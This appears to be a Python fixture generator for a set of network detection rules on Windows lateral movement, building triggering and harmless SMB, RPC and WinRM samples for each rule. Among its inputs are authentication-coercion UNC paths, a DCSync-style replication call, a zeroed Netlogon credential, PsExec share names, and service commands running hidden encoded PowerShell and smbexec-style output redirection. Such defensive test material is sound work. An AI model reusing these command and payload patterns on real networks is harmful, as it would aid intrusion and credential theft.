"""What each rule of the pack must see, and the same without its trait (make.py)."""
import struct

from make import lines, request, rpc, share, web, wide

P = "lateral-movement"
UNC = b"\0\0\2\0" + struct.pack("<III", 20, 0, 20) + wide("\\\\10.20.0.66\\x\\y\0")
LOCAL = b"\0\0\2\0" + struct.pack("<III", 20, 0, 20) + wide("C:\\10.20.0.66\\x\\y\0")
DRSUAPI, NETLOGON = "e3514235-4b06-11d1-ab04-00c04fc2dcd2", "12345678-1234-abcd-ef00-01234567cffb"
SPOOLSS, SVCCTL = "12345678-1234-abcd-ef00-0123456789ab", "367abb81-9844-35f1-ad32-98f038001003"
NAMES = struct.pack("<III", 4, 0, 4) + wide("DC1\0") + struct.pack("<III", 4, 0, 4) + wide("DC1\0")

rpc(P, 9102001, DRSUAPI, 3, other=12)
rpc(P, 9102002, NETLOGON, 4, NAMES + b"\0" * 8, harmless=NAMES + b"\x31\x8a\x07\xcc\x10\x44\x5e\x91")
rpc(P, 9102003, "c681d488-d850-11d0-8c52-00c04fd90f7e", 0, UNC, harmless=LOCAL)
rpc(P, 9102004, "df1941c5-fe89-4e79-bf10-463657acf44d", 0, UNC, harmless=LOCAL)
rpc(P, 9102005, SPOOLSS, 65, UNC, harmless=LOCAL)
rpc(P, 9102006, SPOOLSS, 89, UNC, harmless=LOCAL)
rpc(P, 9102007, "76f03f96-cdfd-44fc-a22c-64950a001209", 39, other=0)
rpc(P, 9102008, "4fc742e0-4a10-11cf-8273-00aa004ae673", 13, UNC, other=5)
rpc(P, 9102009, "a8e0653c-2744-4389-a61d-7373df8b2292", 8, UNC, harmless=LOCAL)
rpc(P, 9102010, SVCCTL, 12, wide("Updater\0"), other=16)
OUTPUT = wide("%COMSPEC% /Q /c echo dir ^> \\\\127.0.0.1\\C$\\__output 2^>^&1 > C:\\Windows\\x.bat\0")
rpc(P, 9102011, SVCCTL, 12, OUTPUT, harmless=wide("C:\\Program Files\\Backup\\agent.exe\0"), also=[9102010])
rpc(P, 9102012, SVCCTL, 12, wide("%COMSPEC% /b /c start /b /min powershell -nop -w hidden -enc AAAA\0"),
    harmless=wide("C:\\Program Files\\Backup\\agent.exe\0"), also=[9102010])
rpc(P, 9102013, "86d35949-83c9-4044-b424-db363231fd0c", 1, wide("\\Updater\0"), other=7)
rpc(P, 9102014, "1ff70682-0a51-30e8-076d-740be8cee98b", 0, other=2)
rpc(P, 9102015, "338cd001-2244-31f1-aaaa-900038001003", 31, wide("C:\\Windows\\Temp\\a.tmp\0"), other=17)
rpc(P, 9102016, "9556dc99-828c-11cf-a37e-00aa003240c7", 24, b"U" * 16 + wide("Win32_Process\0Create\0"),
    harmless=b"U" * 16 + wide("Win32_Printer\0Create\0"))
rpc(P, 9102017, "50abc2a4-574d-40b3-9d66-ee4fd5fba076", 5, b"\0" * 12 + b"ServerLevelPluginDll\0" + wide("\\\\h\\s\\a.dll\0"),
    harmless=b"\0" * 12 + b"ForwardingTimeout\0\0\0\0")
rpc(P, 9102018, "f6beaff7-1e19-4fbb-9f8f-b89e2018337c", 6, wide("Security\0"), other=11)
share(P, 9102019, "PSEXESVC", "srvsvc")
share(P, 9102020, "RemCom_communicaton", "srvsvc")
share(P, 9102021, "msagent_8f", "srvsvc")
share(P, 9102022, "MSSE-1676-server", "MSSE-server")
share(P, 9102023, "PSEXESVC.exe", "notes.txt", "\\\\10.20.0.9\\ADMIN$", False, also=[9102019])


def smb1(command, status, mid, back=True):
    """Header of an answer of version 1 with that status and multiplex id."""
    body = b"\xffSMB" + struct.pack("<BIBHH", command, status, 0x98 if back else 0x18, 0x4807, 0) + b"\0" * 8
    body += struct.pack("<HHHHH", 0, 0x0800, 0xfeff, 0x0800, mid) + b"\0" * 3
    return struct.pack("!I", len(body)) + body


lines(P, 9102024, 445, [(False, smb1(0x32, 0, 65, False)), (True, smb1(0x32, 0xc0000002, 81))],
      struct.pack("<H", 81), struct.pack("<H", 65))
lines(P, 9102025, 445, [(False, smb1(0x25, 0, 7, False)), (True, smb1(0x25, 0xc0000205, 7))],
      struct.pack("<I", 0xc0000205), struct.pack("<I", 0xc0000008))
web(P, 9102026, request("POST", "/wsman", "Content-Type: application/soap+xml;charset=UTF-8\r\n", "<s:Envelope/>",
                        agent="Ruby WinRM Client (2.8.3, ruby 2.7.4 (2021-07-07))"), "Ruby WinRM", "Microsoft WinRM")
